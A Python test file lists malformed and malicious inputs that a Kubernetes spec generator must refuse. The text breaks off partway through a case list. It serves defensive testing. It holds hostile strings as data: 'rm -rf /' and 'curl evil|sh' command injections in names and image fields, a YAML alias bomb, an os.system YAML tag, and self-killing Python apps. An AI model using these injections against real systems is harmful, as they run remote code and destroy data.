"""A hostile-input corpus: malformed, out-of-range and malicious apps (YAML and Python).

Every case of ``CASES`` must end with exit status 2, name the field path (or the file-level
cause), print no traceback, return (the test has a hang guard), and leave the output directory
byte-identical. ``ACCEPTED`` and ``WARNED`` hold inputs the hardening must not refuse (the
latter with a warning at their field). Beside the inputs: the output directory (synth never
replaces what it did not write; colliding objects under any ``--only``; a corrupt previous
output; the working directory; Ctrl-C after the write), a Python app's process killed with its
synth, and the launcher's faults (an empty token, timestamps going back, API answers lost
half-way through a start) on the in-memory Kube.
"""

from __future__ import annotations

import asyncio
import json
import os
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from constructs_lib.cli import main
from constructs_lib.render.atomic import INTERRUPT_AT_ENV
from constructs_lib.spec.python_apps import APP_TIMEOUT_ENV
from constructs_lib.spec.yaml_safety import MAX_ALIASES, MAX_DEPTH
from launcher.fakekube import FakeKube
from launcher.runs import Launcher
from tests.conftest import MINIMAL, REPO, merge, tree_bytes

Case = tuple[str, str, str | bytes, str]
"""(case id, app file name, file content, text the error must contain)."""


def doc(spec: dict[str, Any] | None = None, **top: object) -> str:
    return yaml.safe_dump(merge(merge(MINIMAL, {"spec": spec or {}}), dict(top)))


def meta(**fields: object) -> dict[str, object]:
    return {"metadata": {"name": "demo", "namespace": "team", **fields}}


def sidecar(**fields: object) -> dict[str, Any]:
    return {"sidecars": [{"name": "side", "image": "busybox:1.36", **fields}]}


GOOD = doc()
HEAD = GOOD.rstrip("\n")

# --- YAML structure: parsers accept these, Kubernetes (or memory) does not -------------------
_BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi", strict=True)
)
STRUCTURE: list[Case] = [
    ("dup-top-key", "a.yaml", GOOD + "kind: Instance\n", "the key 'kind' appears twice"),
    ("dup-spec-key", "a.yaml", GOOD + "spec: {}\n", "the key 'spec' appears twice"),
    (
        "dup-nested-key",
        "a.yaml",
        GOOD.replace("  image:\n    tag: 2026.1106.0\n", "  image: {tag: '1', tag: '2'}\n"),
        "spec.image.tag",
    ),
    (
        "dup-key-in-list-item",
        "a.yaml",
        doc({"env": [{"name": "A", "value": "1"}]}).replace(
            "value: '1'", "value: '1'\n    name: B"
        ),
        "spec.env[0].name",
    ),
    ("dup-key-line-numbers", "a.yaml", GOOD + "metadata: {}\n", "(lines 3 and 13)"),
    ("alias-bomb", "a.yaml", _BOMB, "alias bomb"),
    ("alias-self-reference", "a.yaml", "a: &a [*a]\n", "refers to a node that contains it"),
    (
        "too-many-aliases",
        "a.yaml",
        "x: &x 1\ny: [" + ", ".join(["*x"] * (MAX_ALIASES + 1)) + "]\n",
        f"more than {MAX_ALIASES} aliases",
    ),
    ("deep-flow-nesting", "a.yaml", "a: " + "[" * 100_000 + "]" * 100_000 + "\n", "nesting"),
    (
        "deep-block-nesting",
        "a.yaml",
        "a:\n" + "".join("  " * i + "- \n" for i in range(1, MAX_DEPTH + 10)),
        "nesting is deeper",
    ),
    ("tag-binary", "a.yaml", HEAD + "\n  suspended: !!binary aGk=\n", "spec.suspended"),
    ("tag-python-object", "a.yaml", "!!python/object/apply:os.system ['true']\n", "tag"),
    ("tag-custom", "a.yaml", HEAD + "\n  workload: !custom StatefulSet\n", "spec.workload"),
    ("tag-set", "a.yaml", HEAD + "\n  env: !!set {a, b}\n", "spec.env"),
    ("complex-key", "a.yaml", "? [a, b]\n: c\n", "mapping key"),
    ("alias-as-key", "a.yaml", "x: &k name\n*k : v\n", "mapping key"),
    ("non-utf8-byte", "a.yaml", GOOD.encode() + b"# \xff\n", "byte offset"),
    ("latin1-file", "a.yaml", GOOD.replace("demo", "d\u00e9mo").encode("latin-1"), "byte offset"),
    ("utf16-file", "a.yaml", GOOD.encode("utf-16"), "byte offset"),
    ("nul-byte", "a.yaml", GOOD + "\x00\n", "not valid YAML"),
    ("bell-control-char", "a.yaml", GOOD.replace("team", '"te\\x07am"'), "metadata.namespace"),
    ("raw-control-char", "a.yaml", GOOD.replace("team", "te\x07am"), "not valid YAML"),
    ("only-separator", "a.yaml", "---\n---\n", "holds no documents"),
    ("scalar-document", "a.yaml", "just text\n", "not a mapping"),
    ("list-document", "a.yaml", "- 1\n- 2\n", "not a mapping"),
    ("huge-file", "a.yaml", GOOD + "#" + "x" * (4 * 1024 * 1024) + "\n", "limited to"),
    ("tab-indentation", "a.yaml", GOOD.replace("  image:", "\timage:"), "not valid YAML"),
    ("unterminated-quote", "a.yaml", GOOD.replace("team", '"team'), "not valid YAML"),
    ("second-document-bad", "a.yaml", GOOD + "---\n" + doc({"workload": "x"}), "spec.workload"),
    ("spec-is-list", "a.yaml", doc(spec=None).replace("spec:", "spec: [1]\nx:"), "spec"),
]

# --- types: strict, never coerced -------------------------------------------------------------
TYPES: list[Case] = [
    ("replicas-true", "a.yaml", doc({"availability": {"replicas": True}}), "replicas"),
    ("replicas-string", "a.yaml", doc({"availability": {"replicas": "3"}}), "replicas"),
    ("replicas-float", "a.yaml", doc({"availability": {"replicas": 1.5}}), "replicas"),
    ("replicas-list", "a.yaml", doc({"availability": {"replicas": [1]}}), "replicas"),
    ("suspended-off-string", "a.yaml", doc({"suspended": "off"}), "spec.suspended"),
    ("suspended-int", "a.yaml", doc({"suspended": 1}), "spec.suspended"),
    ("suspended-null-string", "a.yaml", doc({"suspended": "null"}), "spec.suspended"),
    ("port-string", "a.yaml", doc({"networking": {"service": {"port": "80"}}}), "service.port"),
    ("port-float", "a.yaml", doc({"networking": {"service": {"port": 80.5}}}), "service.port"),
    ("name-int", "a.yaml", doc(metadata={"name": 123}), "metadata.name"),
    ("namespace-list", "a.yaml", doc(metadata={"name": "d", "namespace": ["a"]}), "namespace"),
    ("labels-int-value", "a.yaml", doc(metadata={"name": "d", "labels": {"a": 1}}), "labels"),
    ("labels-list", "a.yaml", doc(metadata={"name": "d", "labels": ["a"]}), "metadata.labels"),
    ("env-mapping", "a.yaml", doc({"env": {"A": "1"}}), "spec.env"),
    ("env-item-string", "a.yaml", doc({"env": ["A=1"]}), "spec.env[0]"),
    ("sidecars-string", "a.yaml", doc({"sidecars": "busybox"}), "spec.sidecars"),
    ("image-list", "a.yaml", doc({"image": ["x"]}), "spec.image"),
    ("metadata-string", "a.yaml", doc(metadata="demo"), "metadata"),
    ("enum-case", "a.yaml", doc({"workload": "statefulset"}), "spec.workload"),
    ("heartbeat-enabled-yes-string", "a.yaml", doc({"heartbeat": {"enabled": "yes"}}), "enabled"),
    ("agents-enabled-string", "a.yaml", doc({"agents": {"enabled": "true"}}), "agents.enabled"),
    ("nan-replicas", "a.yaml", HEAD + "\n  availability: {replicas: .nan}\n", "replicas"),
    (
        "inf-grace",
        "a.yaml",
        HEAD + "\n  availability: {terminationGracePeriodSeconds: .inf}\n",
        "terminationGracePeriodSeconds",
    ),
]

# --- integer bounds: nothing the API server would wrap --------------------------------------
BOUNDS: list[Case] = [
    ("replicas-2pow32", "a.yaml", doc({"availability": {"replicas": 2**32}}), "replicas"),
    ("replicas-2pow70", "a.yaml", doc({"availability": {"replicas": 2**70}}), "replicas"),
    ("replicas-negative", "a.yaml", doc({"availability": {"replicas": -1}}), "replicas"),
    ("replicas-zero", "a.yaml", doc({"availability": {"replicas": 0}}), "replicas"),
    (
        "grace-2pow63",
        "a.yaml",
        doc({"availability": {"terminationGracePeriodSeconds": 2**63}}),
        "terminationGracePeriodSeconds",
    ),
    (
        "grace-negative",
        "a.yaml",
        doc({"availability": {"terminationGracePeriodSeconds": -1}}),
        "terminationGracePeriodSeconds",
    ),
    ("port-zero", "a.yaml", doc({"networking": {"service": {"port": 0}}}), "service.port"),
    ("port-65536", "a.yaml", doc({"networking": {"service": {"port": 65536}}}), "service.port"),
    ("heartbeat-2pow64", "a.yaml", doc({"heartbeat": {"intervalMS": 2**64}}), "intervalMS"),
    (
        "drain-negative",
        "a.yaml",
        doc({"availability": {"serverDrain": {"timeoutSeconds": -5}}}),
        "timeoutSeconds",
    ),
    (
        "probe-period-2pow31",
        "a.yaml",
        doc({"probes": {"liveness": {"periodSeconds": 2**31}}}),
        "periodSeconds",
    ),
    (
        "probe-period-zero",
        "a.yaml",
        doc({"probes": {"liveness": {"periodSeconds": 0}}}),
        "periodSeconds",
    ),
    (
        "launcher-replicas-2pow31",
        "a.yaml",
        doc({"agents": {"enabled": True, "launcher": {"replicas": 2**31}}}),
        "launcher.replicas",
    ),
    (
        "pending-timeout-zero",
        "a.yaml",
        doc({"agents": {"enabled": True, "launcher": {"pendingTimeoutSeconds": 0}}}),
        "pendingTimeoutSeconds",
    ),
    (
        "huge-int-literal",
        "a.yaml",
        HEAD + "\n  availability: {replicas: " + "9" * 5000 + "}\n",
        "replicas",
    ),
]

# --- names, labels, annotations: injection and the API server's syntax ---------------------
NAMES: list[Case] = [
    ("name-newline", "a.yaml", doc(metadata={"name": "demo\nkind: Secret"}), "metadata.name"),
    ("name-shell", "a.yaml", doc(metadata={"name": "a;rm -rf /"}), "metadata.name"),
    ("name-unicode", "a.yaml", doc(metadata={"name": "d\u00e9mo"}), "metadata.name"),
    ("name-path-traversal", "a.yaml", doc(metadata={"name": "../../etc"}), "metadata.name"),
    ("name-64", "a.yaml", doc(metadata={"name": "a" * 64}), "metadata.name"),
    ("name-empty", "a.yaml", doc(metadata={"name": ""}), "metadata.name"),
    (
        "namespace-space",
        "a.yaml",
        doc(metadata={"name": "d", "namespace": "Kube System"}),
        "metadata.namespace",
    ),
    (
        "namespace-64",
        "a.yaml",
        doc(metadata={"name": "d", "namespace": "n" * 64}),
        "metadata.namespace",
    ),
    (
        "label-key-space",
        "a.yaml",
        doc(metadata={"name": "d", "labels": {"a b": "x"}}),
        "metadata.labels",
    ),
    (
        "label-value-64",
        "a.yaml",
        doc(metadata={"name": "d", "labels": {"a": "x" * 64}}),
        "metadata.labels",
    ),
    (
        "label-value-newline",
        "a.yaml",
        doc(metadata={"name": "d", "labels": {"a": "x\ny"}}),
        "metadata.labels",
    ),
    (
        "label-key-upper-prefix",
        "a.yaml",
        doc(metadata={"name": "d", "labels": {"Example.com/a": "x"}}),
        "metadata.labels",
    ),
    (
        "label-key-two-slashes",
        "a.yaml",
        doc(metadata={"name": "d", "labels": {"a/b/c": "x"}}),
        "metadata.labels",
    ),
    (
        "annotation-key-dash",
        "a.yaml",
        doc(metadata={"name": "d", "annotations": {"-bad": "x"}}),
        "metadata.annotations",
    ),
    (
        "annotations-over-256k",
        "a.yaml",
        doc({"podAnnotations": {f"k{i}": "v" * 70_000 for i in range(4)}}),
        "annotations total",  # refused on the generated StatefulSet (SPEC_PATHS: at the spec path)
    ),
    ("pod-annotation-key-bad", "a.yaml", doc({"podAnnotations": {"a b": "x"}}), "podAnnotations"),
    (
        "service-annotation-key-bad",
        "a.yaml",
        doc({"networking": {"service": {"annotations": {"x/y/z": "1"}}}}),
        "service.annotations",
    ),
    (
        "node-selector-value-newline",
        "a.yaml",
        doc({"availability": {"nodeSelector": {"pool": "a\nb"}}}),
        "nodeSelector",
    ),
    (
        "storage-class-underscore",
        "a.yaml",
        doc({"storage": {"persistence": {"storageClass": "Fast_SSD"}}}),
        "storageClass",
    ),
    (
        "pull-secret-upper",
        "a.yaml",
        doc({"image": {"tag": "1", "pullSecrets": [{"name": "Bad"}]}}),
        "pullSecrets[0].name",
    ),
    (
        "secret-ref-key-slash",
        "a.yaml",
        doc({"auth": {"secretRef": {"name": "a", "key": "a/b"}}}),
        "auth.secretRef.key",
    ),
    (
        "secret-ref-name-empty",
        "a.yaml",
        doc({"auth": {"secretRef": {"name": "", "key": "k"}}}),
        "auth.secretRef.name",
    ),
    ("image-tag-injection", "a.yaml", doc({"image": {"tag": "1;rm -rf /"}}), "spec.image.tag"),
    ("image-tag-newline", "a.yaml", doc({"image": {"tag": "1\nx"}}), "spec.image.tag"),
    (
        "image-repository-upper",
        "a.yaml",
        doc({"image": {"repository": "Evil/X", "tag": "1"}}),
        "spec.image.repository",
    ),
    ("image-digest-short", "a.yaml", doc({"image": {"digest": "sha256:abc"}}), "image.digest"),
    (
        "public-url-javascript",
        "a.yaml",
        doc({"deployment": {"publicURL": "javascript:alert(1)"}}),
        "publicURL",
    ),
    (
        "allowed-hostname-path",
        "a.yaml",
        doc({"deployment": {"allowedHostnames": ["evil.com/x"]}}),
        "allowedHostnames[0]",
    ),
    (
        "cidr-garbage",
        "a.yaml",
        doc({"security": {"networkPolicy": {"allowEgressCIDRs": ["0.0.0.0/0; drop"]}}}),
        "allowEgressCIDRs[0]",
    ),
    (
        "template-name-upper",
        "a.yaml",
        doc({"agents": {"enabled": True, "templates": {"Bad Name": {"image": "x:1"}}}}),
        "agents.templates",
    ),
]

# --- pass-through Kubernetes structures: the API server's semantic rules ----------------------
PASS_THROUGH: list[Case] = [
    ("env-name-empty", "a.yaml", doc({"env": [{"name": "", "value": "x"}]}), "spec.env[0].name"),
    (
        "env-name-equals",
        "a.yaml",
        doc({"env": [{"name": "A=B", "value": "x"}]}),
        "spec.env[0].name",
    ),
    (
        "env-name-newline",
        "a.yaml",
        doc({"env": [{"name": "A\nB", "value": "x"}]}),
        "spec.env[0].name",
    ),
    (
        "env-name-non-ascii",
        "a.yaml",
        doc({"env": [{"name": "\u00c9T\u00c9", "value": "x"}]}),
        "spec.env[0].name",
    ),
    (
        "env-value-and-value-from",
        "a.yaml",
        doc(
            {
                "env": [
                    {
                        "name": "A",
                        "value": "x",
                        "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}},
                    }
                ]
            }
        ),
        "spec.env[0].valueFrom",
    ),
    (
        "env-secret-key-bad",
        "a.yaml",
        doc({"env": [{"name": "A", "valueFrom": {"secretKeyRef": {"name": "s", "key": "a b"}}}]}),
        "spec.env[0].valueFrom.secretKeyRef.key",
    ),
    (
        "env-from-prefix-equals",
        "a.yaml",
        doc({"envFrom": [{"prefix": "A=", "configMapRef": {"name": "c"}}]}),
        "spec.envFrom[0]",
    ),
    (
        "sidecar-env-name-equals",
        "a.yaml",
        doc(sidecar(env=[{"name": "A=B", "value": "x"}])),
        "spec.sidecars[0].env[0].name",
    ),
    (
        "sidecar-name-underscore",
        "a.yaml",
        doc({"sidecars": [{"name": "Bad_Name", "image": "b"}]}),
        "spec.sidecars[0].name",
    ),
    (
        "sidecar-name-64",
        "a.yaml",
        doc({"sidecars": [{"name": "s" * 64, "image": "b"}]}),
        "spec.sidecars[0].name",
    ),
    (
        "sidecar-image-whitespace",
        "a.yaml",
        doc({"sidecars": [{"name": "s", "image": " b "}]}),
        "spec.sidecars[0].image",
    ),
    (
        "sidecar-port-name-upper",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 80, "name": "HTTP"}])),
        "spec.sidecars[0].ports[0]",
    ),
    (
        "sidecar-port-70000",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 70000}])),
        "spec.sidecars[0].ports[0].containerPort",
    ),
    (
        "sidecar-port-2pow40",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 2**40}])),
        "spec.sidecars[0].ports[0].containerPort",
    ),
    (
        "sidecar-cpu-negative",
        "a.yaml",
        doc(sidecar(resources={"requests": {"cpu": "-1"}})),
        "spec.sidecars[0].resources.requests.cpu",
    ),
    (
        "sidecar-request-over-limit",
        "a.yaml",
        doc(sidecar(resources={"requests": {"memory": "2Gi"}, "limits": {"memory": "1Gi"}})),
        "spec.sidecars[0].resources.requests.memory",
    ),
    (
        "sidecar-run-as-user-negative",
        "a.yaml",
        doc(sidecar(securityContext={"runAsUser": -1})),
        "spec.sidecars[0].securityContext.runAsUser",
    ),
    (
        "sidecar-probe-negative",
        "a.yaml",
        doc(sidecar(livenessProbe={"tcpSocket": {"port": 80}, "periodSeconds": -1})),
        "spec.sidecars[0].livenessProbe.periodSeconds",
    ),
    (
        "resources-cpu-negative",
        "a.yaml",
        doc({"resources": {"requests": {"cpu": "-100m"}}}),
        "spec.resources.requests.cpu",
    ),
    (
        "resources-unknown-name",
        "a.yaml",
        doc({"resources": {"limits": {"gpu": "1"}}}),
        "spec.resources.limits.gpu",
    ),
    (
        "resources-quantity-huge-exponent",
        "a.yaml",
        doc({"resources": {"limits": {"memory": "1e1000"}}}),
        "spec.resources",
    ),
    (
        "volume-name-upper",
        "a.yaml",
        doc({"extraVolumes": [{"name": "Data", "emptyDir": {}}]}),
        "spec.extraVolumes[0].name",
    ),
    (
        "volume-two-sources",
        "a.yaml",
        doc({"extraVolumes": [{"name": "d", "emptyDir": {}, "secret": {"secretName": "s"}}]}),
        "spec.extraVolumes[0]",
    ),
    (
        "volume-size-negative",
        "a.yaml",
        doc({"extraVolumes": [{"name": "d", "emptyDir": {"sizeLimit": "-1Gi"}}]}),
        "spec.extraVolumes[0].emptyDir.sizeLimit",
    ),
    (
        "volume-mount-name-upper",
        "a.yaml",
        doc({"extraVolumeMounts": [{"name": "Data", "mountPath": "/d"}]}),
        "spec.extraVolumeMounts[0].name",
    ),
    (
        "storage-size-zero",
        "a.yaml",
        doc({"storage": {"persistence": {"size": "0"}}}),
        "must be greater than zero",  # on the generated PVC (SPEC_PATHS: at the spec path)
    ),
    (
        "storage-size-negative",
        "a.yaml",
        doc({"storage": {"persistence": {"size": "-5Gi"}}}),
        "must be greater than zero",  # on the generated PVC (SPEC_PATHS: at the spec path)
    ),
    (
        "workspace-size-zero",
        "a.yaml",
        doc({"agents": {"enabled": True, "workspace": {"size": "0"}}}),
        "must be greater than zero",  # on the generated PVC (SPEC_PATHS: at the spec path)
    ),
    (
        "toleration-operator",
        "a.yaml",
        doc({"availability": {"tolerations": [{"key": "k", "operator": "Maybe"}]}}),
        "spec.availability.tolerations[0]",
    ),
    (
        "topology-max-skew-zero",
        "a.yaml",
        doc(
            {
                "availability": {
                    "topologySpreadConstraints": [
                        {"maxSkew": 0, "topologyKey": "zone", "whenUnsatisfiable": "DoNotSchedule"}
                    ]
                }
            }
        ),
        "spec.availability.topologySpreadConstraints[0].maxSkew",
    ),
    (
        "pod-security-fsgroup-2pow40",
        "a.yaml",
        doc({"security": {"podSecurityContext": {"fsGroup": 2**40}}}),
        "spec.security.podSecurityContext.fsGroup",
    ),
]

# --- Python apps: no exit, no output, no hang, no bypass --------------------------------------
IMPORTS = "from constructs_lib.spec import *\nimport os, sys, time\n"
GOOD_PY = (
    IMPORTS
    + "def good():\n"
    + "    return Instance(metadata=ObjectMetadata(name='demo', namespace='team'),\n"
    + "        spec=InstanceSpec(image=ImageSpec(tag='1'),\n"
    + "            deployment=DeploymentSpec(mode='local_trusted'),\n"
    + "            database=DatabaseSpec(mode='embedded')))\n"
)


def app(body: str) -> str:
    return GOOD_PY + body


PYTHON: list[Case] = [
    ("py-sys-exit-0-import", "p.py", app("sys.exit(0)\n"), "called sys.exit(0)"),
    ("py-sys-exit-0-call", "p.py", app("def instances():\n    sys.exit(0)\n"), "sys.exit(0)"),
    ("py-sys-exit-1", "p.py", app("def instances():\n    sys.exit(1)\n"), "sys.exit(1)"),
    ("py-raise-systemexit", "p.py", app("raise SystemExit\n"), "sys.exit(None)"),
    ("py-os-exit-0", "p.py", app("os._exit(0)\n"), "exited with status 0"),
    ("py-os-exit-3", "p.py", app("def instances():\n    os._exit(3)\n"), "exited with status 3"),
    (
        "py-kill-self",
        "p.py",
        app("import signal\nos.kill(os.getpid(), signal.SIGKILL)\n"),
        "killed by signal 9",
    ),
    (
        "py-print-import",
        "p.py",
        app("print('hello')\ndef instances():\n    return [good()]\n"),
        "wrote to stdout or stderr",
    ),
    (
        "py-print-call",
        "p.py",
        app("def instances():\n    print('x')\n    return [good()]\n"),
        "wrote to stdout or stderr",
    ),
    (
        "py-dunder-stderr",
        "p.py",
        app("sys.__stderr__.write('x')\ndef instances():\n    return [good()]\n"),
        "wrote to stdout or stderr",
    ),
    (
        "py-fd-write",
        "p.py",
        app("os.write(1, b'x')\ndef instances():\n    return [good()]\n"),
        "wrote to stdout or stderr",
    ),
    ("py-hang", "p.py", app("def instances():\n    time.sleep(3600)\n"), "did not finish within"),
    ("py-busy-loop", "p.py", app("while True:\n    pass\n"), "did not finish within"),
    (
        "py-read-stdin",
        "p.py",
        app("x = input()\ndef instances():\n    return [good()]\n"),
        "EOFError",
    ),
    (
        "py-raise",
        "p.py",
        app("def instances():\n    raise ValueError('nope')\n"),
        "raised ValueError (line",
    ),
    ("py-keyboard-interrupt", "p.py", app("raise KeyboardInterrupt\n"), "KeyboardInterrupt"),
    (
        "py-recursion",
        "p.py",
        app("def f():\n    return f()\ndef instances():\n    return f()\n"),
        "RecursionError",
    ),
    (
        "py-hostile-str",
        "p.py",
        app(
            "class E(Exception):\n    def __str__(self):\n        raise RuntimeError\n"
            "def instances():\n    raise E()\n"
        ),
        "raised E",
    ),
    (
        "py-returns-dicts",
        "p.py",
        app("def instances():\n    return [{'kind': 'Instance'}]\n"),
        "returned dict objects",
    ),
    ("py-returns-empty", "p.py", app("def instances():\n    return []\n"), "no instances"),
    (
        "py-returns-one-instance",
        "p.py",
        app("def instances():\n    return good()\n"),
        "instances() returned an Instance, not a list of them",
    ),
    (
        "py-returns-none",
        "p.py",
        app("def instances():\n    good()\n"),
        "instances() returned None, not a list of Instance objects",
    ),
    (
        "py-returns-a-mapping",
        "p.py",
        app("def instances():\n    return {'demo': good()}\n"),
        "instances() returned a dict, not a list of Instance objects",
    ),
    (
        "py-returns-a-string",
        "p.py",
        app("def instances():\n    return 'demo'\n"),
        "instances() returned a str, not a list of Instance objects",
    ),
    ("py-no-function", "p.py", app(""), "defines no instances()"),
    ("py-syntax-error", "p.py", app("def instances(:\n"), "SyntaxError"),
    (
        "py-construct-replicas",
        "p.py",
        app(
            "def instances():\n    g = good()\n"
            "    s = g.spec.model_copy(update={'availability': AvailabilitySpec.model_construct("
            "replicas=2**32)})\n"
            "    return [g.model_copy(update={'spec': s})]\n"
        ),
        "spec.availability.replicas",
    ),
    (
        "py-model-copy-suspended",
        "p.py",
        app(
            "def instances():\n    g = good()\n"
            "    s = g.spec.model_copy(update={'suspended': 'off'})\n"
            "    return [g.model_copy(update={'spec': s})]\n"
        ),
        "spec.suspended",
    ),
    (
        "py-construct-name",
        "p.py",
        app(
            "def instances():\n    g = good()\n"
            "    return [g.model_copy(update={'metadata': ObjectMetadata.model_construct("
            "name='Bad Name!', namespace='team')})]\n"
        ),
        "metadata.name",
    ),
    (
        "py-construct-env",
        "p.py",
        app(
            "def instances():\n    g = good()\n"
            "    s = g.spec.model_copy(update={'env': [{'name': 'A=B', 'value': 'x'}]})\n"
            "    return [g.model_copy(update={'spec': s})]\n"
        ),
        "spec.env[0].name",
    ),
    (
        "py-disable-rules",
        "p.py",
        app(
            "from constructs_lib.spec import rules\nrules.errors = lambda i: []\n"
            "def instances():\n    g = good()\n"
            "    d = g.spec.deployment.model_copy(update={'exposure': 'public'})\n"
            "    s = g.spec.model_copy(update={'deployment': d})\n"
            "    return [g.model_copy(update={'spec': s})]\n"
        ),
        "spec.deployment.exposure",
    ),
    (
        "py-unserializable",
        "p.py",
        app(
            "def instances():\n"
            "    return [Instance.model_construct(metadata=object(), spec=object())]\n"
        ),
        "p.py",
    ),
]

# --- file names -------------------------------------------------------------------------------
FILE_NAMES: list[Case] = [
    ("file-dot", "..yaml", GOOD, "cannot be a directory name"),
    ("file-dotdot", "...yaml", GOOD, "cannot be a directory name"),
    ("file-space", "my app.yaml", GOOD, "cannot be a directory name"),
    ("file-leading-dash", "-x.yaml", GOOD, "cannot be a directory name"),
    ("file-dot-py", "..py", GOOD_PY, "cannot be a directory name"),
]

CASES = STRUCTURE + TYPES + BOUNDS + NAMES + PASS_THROUGH + PYTHON + FILE_NAMES

# Cases refused at their spec path by the spec types (before, only on generated objects).
SPEC_PATHS: list[Case] = [
    # urlsplit drops the newline: without the spec's check the URL would reach DATABASE_URL
    (
        "external-url-newline",
        "a.yaml",
        doc({"database": {"mode": "external", "externalURL": "postgres://db/x\nEVIL=1"}}),
        "spec.database",
    ),
    # the spec types carry the rule, so the spec path is named (Annotations: total size through
    # semantic.annotations_problems; storage and workspace sizes: semantic.quantity(positive=True))
    (
        "annotations-over-256k-spec-path",
        "a.yaml",
        doc({"podAnnotations": {f"k{i}": "v" * 70_000 for i in range(4)}}),
        "spec.podAnnotations",
    ),
    (
        "storage-size-zero-spec-path",
        "a.yaml",
        doc({"storage": {"persistence": {"size": "0"}}}),
        "spec.storage.persistence.size",
    ),
    (
        "workspace-size-zero-spec-path",
        "a.yaml",
        doc({"agents": {"enabled": True, "workspace": {"size": "0"}}}),
        "spec.agents.workspace.size",
    ),
]
CASES = CASES + SPEC_PATHS


def external(url: str) -> dict[str, Any]:
    return {"database": {"mode": "external", "externalURL": url}}


def public(url: str) -> dict[str, Any]:
    return {"deployment": {"publicURL": url}}


def runbook(url: str) -> dict[str, Any]:
    rule = {"enabled": True, "runbookBaseURL": url}
    return {"observability": {"metrics": {"prometheusRule": rule}}}


def endpoint(url: str) -> dict[str, Any]:
    return {"objectStorage": {"provider": "minio", "bucket": "files", "endpoint": url}}


def agents(**template: Any) -> dict[str, Any]:
    return {"agents": {"enabled": True, "templates": {"ci": {"image": "ci:1", **template}}}}


def init(**fields: Any) -> dict[str, Any]:
    return {"initContainers": [{"name": "prep", "image": "busybox:1.36", **fields}]}


MANAGED = {"database": {"mode": "managed"}}
DIGEST = "sha256:" + "a" * 64

# --- hardening, round 3 (issue 22) -----------------------------------------------------------
# 3: credentials in URLs, however they are spelled; 5: image references; 6: secrets in literal
# env values; 4: what server-side apply refuses (every list it merges by key is unique by that
# key; a spec.env name the generator sets from a Secret)
ROUND_3: list[Case] = [
    (
        "url-password-percent-encoded",
        "a.yaml",
        doc(external("postgresql://db:5432/x?user=app&pass%77ord=s3cret")),
        "spec.database.externalURL",
    ),
    (
        "url-access-token",
        "a.yaml",
        doc(public("https://pc.example.com/?access_token=abc")),
        "spec.deployment.publicURL",
    ),
    (
        "url-client-secret",
        "a.yaml",
        doc(public("https://pc.example.com/?client_secret=abc")),
        "spec.deployment.publicURL",
    ),
    (
        "url-private-token",
        "a.yaml",
        doc(runbook("https://wiki.example.com/runbooks?private_token=abc")),
        "runbookBaseURL",
    ),
    (
        "url-sig",
        "a.yaml",
        doc(endpoint("https://s3.example.com/?sig=abc")),
        "objectStorage.endpoint",
    ),
    (
        "url-x-amz-signature",
        "a.yaml",
        doc(endpoint("https://s3.example.com/b?X-Amz-Signature=abc")),
        "objectStorage.endpoint",
    ),
    (
        "url-token-in-fragment",
        "a.yaml",
        doc(runbook("https://wiki.example.com/runbooks#token=abc")),
        "runbookBaseURL",
    ),
    (
        "url-token-name-percent-encoded",
        "a.yaml",
        doc(public("https://pc.example.com/?t%6Fken=abc")),
        "spec.deployment.publicURL",
    ),
    (
        "url-token-as-user-name",
        "a.yaml",
        doc(public("https://ghp_0123456789abcdefghijABCDEFGHIJ012345@pc.example.com/")),
        "spec.deployment.publicURL",
    ),
    (
        "image-sidecar-injection",
        "a.yaml",
        doc({"sidecars": [{"name": "side", "image": "busybox; $(curl evil|sh)"}]}),
        "spec.sidecars[0].image",
    ),
    (
        "image-init-injection",
        "a.yaml",
        doc(init(image="busybox:1.36 && curl evil")),
        "spec.initContainers[0].image",
    ),
    (
        "image-agent-template-injection",
        "a.yaml",
        doc(agents(image="busybox; $(curl evil|sh)")),
        "spec.agents.templates.ci.image",
    ),
    (
        "image-launcher-injection",
        "a.yaml",
        doc({"agents": {"enabled": True, "launcher": {"image": "l:1 $(curl evil|sh)"}}}),
        "spec.agents.launcher.image",
    ),
    (
        "image-sidecar-upper-case-path",
        "a.yaml",
        doc(sidecar(image="Library/BusyBox:1")),
        "spec.sidecars[0].image",
    ),
    (
        "image-sidecar-bad-digest",
        "a.yaml",
        doc(sidecar(image="busybox@sha256:xyz")),
        "spec.sidecars[0].image",
    ),
    (
        "env-url-with-password",
        "a.yaml",
        doc({"env": [{"name": "DATABASE_URL_RO", "value": "postgres://u:pw@db:5432/x"}]}),
        "spec.env[0].value",
    ),
    (
        "sidecar-env-url-with-password",
        "a.yaml",
        doc(sidecar(env=[{"name": "UPSTREAM", "value": "https://u:pw@api.example.com/"}])),
        "spec.sidecars[0].env[0].value",
    ),
    (
        "init-env-url-with-password",
        "a.yaml",
        doc(init(env=[{"name": "SOURCE", "value": "postgres://u:pw@db/x"}])),
        "spec.initContainers[0].env[0].value",
    ),
    (
        "agent-env-url-with-token",
        "a.yaml",
        doc(agents(env=[{"name": "FEED", "value": "https://x.example.com/?access_token=abc"}])),
        "spec.agents.templates.ci.env[0].value",
    ),
    (
        "env-duplicate-name",
        "a.yaml",
        doc({"env": [{"name": "A", "value": "1"}, {"name": "A", "value": "2"}]}),
        "spec.env[1].name",
    ),
    (
        "env-overrides-generated-database-url",
        "a.yaml",
        doc({**MANAGED, "env": [{"name": "DATABASE_URL", "value": "postgres://db/x"}]}),
        "spec.env[0].name",
    ),
    (
        "env-overrides-generated-master-key",
        "a.yaml",
        doc({"env": [{"name": "PAPERCLIP_SECRETS_MASTER_KEY", "value": "x"}]}),
        "spec.env[0].name",
    ),
    (
        "sidecar-env-duplicate-name",
        "a.yaml",
        doc(sidecar(env=[{"name": "A", "value": "1"}, {"name": "A", "value": "2"}])),
        "spec.sidecars[0].env[1].name",
    ),
    (
        "pull-secrets-duplicate",
        "a.yaml",
        doc({"image": {"tag": "1", "pullSecrets": [{"name": "r"}, {"name": "r"}]}}),
        "spec.image.pullSecrets[1].name",
    ),
    (
        "sidecar-port-duplicate",
        "a.yaml",
        doc(sidecar(ports=[{"containerPort": 80}, {"containerPort": 80}])),
        "spec.sidecars[0].ports[1]",
    ),
    (
